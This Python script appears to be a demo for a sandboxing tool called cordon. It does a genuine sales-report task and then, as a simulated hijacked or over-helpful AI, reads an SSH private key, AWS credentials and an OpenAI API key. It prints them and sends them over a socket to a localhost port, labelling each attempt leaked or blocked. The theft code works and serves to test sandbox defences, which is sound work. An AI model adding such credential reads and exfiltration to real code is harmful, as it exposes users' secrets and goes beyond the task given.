#!/usr/bin/python3
"""task.py: an "AI-generated" script for cordon's demo (examples/run-demo.sh).

The task it was asked to do: read data/sales.csv, total the sales per region,
write out/report.json and print a summary.  Like an over-helpful or hijacked
model, it also goes after secrets: ~/.ssh/id_rsa, ~/.aws/credentials and
$OPENAI_API_KEY, and tries to send what it found to 127.0.0.1:PORT (PORT from
argv[1] or $DEMO_PORT).  Each attempt prints "LEAKED: ..." when it worked,
"BLOCKED: ..." when it was refused (permission denied, or the variable is
not there) and "FAILED: ..." when it went wrong for another reason (no such
file, nobody listening).  Standard library only.

usage: python3 task.py [PORT]
Exit status: 0 when the legitimate task succeeded (whatever the attempts
did), 1 when it failed.
"""
import csv
import json
import os
import socket
import sys

HERE = os.path.dirname(os.path.abspath(__file__))


def sales_report():
    """The task: totals per region from data/sales.csv into out/report.json."""
    totals = {}
    with open(os.path.join(HERE, "data", "sales.csv"), newline="") as f:
        for row in csv.DictReader(f):
            amount = int(row["units"]) * float(row["unit_price"])
            totals[row["region"]] = totals.get(row["region"], 0.0) + amount
    report = {
        "totals_by_region": {r: round(v, 2) for r, v in sorted(totals.items())},
        "grand_total": round(sum(totals.values()), 2),
    }
    out = os.path.join(HERE, "out")
    os.makedirs(out, exist_ok=True)
    with open(os.path.join(out, "report.json"), "w") as f:
        json.dump(report, f, indent=2)
        f.write("\n")
    print("Sales per region:")
    for region, total in report["totals_by_region"].items():
        print(f"  {region:<6} {total:>9.2f}")
    print(f"  {'total':<6} {report['grand_total']:>9.2f}")
    print("Wrote out/report.json")


def verdict(err):
    """Refused by the system (what a sandbox does), or failed otherwise?"""
    return "BLOCKED" if isinstance(err, PermissionError) else "FAILED"


def first_line(data):
    return data.strip().splitlines()[0] if data.strip() else "(empty)"


def steal_file(path):
    """'While I'm here, let me check your credentials are set up...'"""
    full = os.path.expanduser(path)
    try:
        with open(full) as f:
            data = f.read()
    except OSError as e:
        print(f"{verdict(e)}: read {path}: {e.strerror} ({type(e).__name__})")
        return None
    print(f"LEAKED: read {path}: {len(data)} bytes, starting {first_line(data)!r}")
    return data


def steal_env(name):
    value = os.environ.get(name)
    if value is None:
        print(f"BLOCKED: ${name} is not in the environment")
    else:
        print(f"LEAKED: ${name} = {value!r}")
    return value


def exfiltrate(port, loot):
    """Send whatever was found to a server the 'model' was told about."""
    if port is None:
        print("FAILED: no port to send to (give one as argv[1] or $DEMO_PORT)")
        return
    payload = "".join(f"== {k}\n{v.rstrip()}\n" for k, v in loot.items()).encode()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
            s.sendall(payload)
    except OSError as e:
        print(f"{verdict(e)}: connect to 127.0.0.1:{port}: {e.strerror or e} ({type(e).__name__})")
        return
    print(f"LEAKED: sent {len(payload)} bytes to 127.0.0.1:{port}")


def main():
    try:
        sales_report()
        ok = True
    except OSError as e:
        print(f"task failed: {e}", file=sys.stderr)
        ok = False

    print()
    print("...and, unasked:")
    loot = {}
    for path in ("~/.ssh/id_rsa", "~/.aws/credentials"):
        data = steal_file(path)
        loot[path] = data if data is not None else "(not read)"
    key = steal_env("OPENAI_API_KEY")
    loot["OPENAI_API_KEY"] = key if key is not None else "(not found)"
    port = sys.argv[1] if len(sys.argv) > 1 else os.environ.get("DEMO_PORT")
    exfiltrate(int(port) if port else None, loot)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
